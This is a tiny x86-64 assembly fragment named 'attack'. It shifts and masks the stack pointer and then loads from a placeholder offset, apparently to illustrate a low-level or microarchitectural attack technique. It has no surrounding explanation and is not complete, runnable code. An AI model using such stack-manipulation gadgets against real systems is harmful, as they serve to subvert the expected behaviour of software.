function attack
    lea -0x10000(%rsp),%rsp
    xor %rsp,%r11
    and $0xfffff8,%r11d
    xor %r11,%rsp
    mov -OFF(%rsp),%r11
    ret
